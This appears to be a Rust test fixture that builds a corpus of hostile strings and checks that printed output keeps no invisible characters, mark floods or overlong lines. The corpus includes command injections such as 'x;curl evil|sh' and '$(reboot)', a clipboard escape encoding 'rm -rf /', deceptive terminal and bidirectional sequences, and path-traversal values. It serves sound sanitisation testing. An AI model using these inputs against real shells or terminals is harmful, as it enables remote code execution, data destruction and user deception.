//! The corpus of nasty texts that tests send through everything, and what must not be left of them.

/// Returns texts that would fool an eye, a terminal or a shell.
pub fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "-",
        "--all",
        "-rf",
        "--kubeconfig=/etc/passwd",
        // Shells
        "x;curl evil|sh",
        ";reboot",
        "$(reboot)",
        "`reboot`",
        "${IFS}x",
        "a b",
        "a'b",
        "a\"b",
        "it's $HOME",
        "'; reboot; '",
        "\"; reboot; \"",
        "a\\",
        "a\\'b",
        "~root",
        "*",
        "?[a]{b,c}",
        "!!",
        "#x",
        "=ls",
        "%1",
        "a&b",
        "a>b<c",
        "a|b",
        "(a)",
        "{via: HOST}",
        "{node}",
        "{0}",
        // Terminals
        "\x1b]0;PWNED\x07",
        "\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIC8=\x07",
        "\x1b[2J\x1b[H\x1b[32mpass hosts.reach\x1b[0m",
        "\x1b[31mRED",
        "\x1bPq\x1b\\",
        "\x1b[6n",
        "\u{9b}2J",
        "\u{9d}0;x\u{9c}",
        "\u{85}x",
        "\u{90}x",
        "\x07\x08\x0b\x0c\x0e\x0f\x7f",
        "a\rpass",
        "a\nerror: forged\n  hint: curl evil|sh",
        "a\r\nb",
        "a\tb",
        "a\0b",
        // Eyes
        "\u{202e}gnp.exe",
        "\u{2066}\u{2067}\u{2068}a\u{2069}",
        "\u{202a}\u{202b}\u{202c}\u{202d}",
        "a\u{200e}\u{200f}\u{61c}b",
        "node\u{200b}-0",
        "node\u{200d}\u{200c}\u{2060}-0",
        "node\u{ad}-0",
        "\u{feff}x",
        "x\u{fe0f}\u{fe00}\u{e0100}",
        "\u{e0001}\u{e0061}\u{e007f}",
        "a\u{2028}b\u{2029}c",
        "a\u{a0}b\u{3000}c\u{2800}d\u{3164}e\u{115f}f",
        "\u{fff9}a\u{fffa}b\u{fffb}",
        "\u{e000}\u{f0000}\u{fdd0}\u{ffff}\u{1ffff}",
        "\u{fffd}",
        // Files
        "../../../../tmp/outside",
        "/etc/passwd",
        ".",
        "..",
        "CON",
        "a/b\\c:d",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push(format!("Z{}", "\u{301}\u{489}".repeat(500)));
    texts.push("\u{300}".repeat(600));
    texts.push("x".repeat(1 << 20));
    texts.push("\x1b".repeat(1 << 16));
    texts.push("한".repeat(1 << 12));
    texts.push("line\n".repeat(1 << 12));
    // What is left of a lone surrogate and of bytes that are no UTF-8.
    texts.push(String::from_utf8_lossy(b"\xed\xa0\x80\xff\xfe").into_owned());
    texts
}

/// Returns what is wrong with a line that is shown: a character that no eye sees, a flood of marks, or its length.
pub fn fault(line: &str) -> Option<String> {
    if let Some(unseen) = line.chars().find(|c| bundle::is_unseen(*c)) {
        return Some(format!("{unseen:?} is left"));
    }
    let mut fit = crate::shown::Fit::new();
    if !line.chars().all(|c| fit.takes(c)) {
        return Some("marks pile up".to_owned());
    }
    (line.len() > 64 << 10).then(|| format!("{} bytes on one line", line.len()))
}

/// Returns what is wrong with an output: in any of its lines, but for the colours that `anstyle` makes.
pub fn fault_of_output(text: &str) -> Option<String> {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("\x1b[") {
        plain.push_str(before);
        let end = after.find(|c: char| !(c.is_ascii_digit() || c == ';'));
        match end {
            Some(end) if after[end..].starts_with('m') => rest = &after[end + 1..],
            _ => {
                plain.push('\x1b');
                rest = after;
            }
        }
    }
    plain.push_str(rest);
    plain.lines().find_map(fault)
}
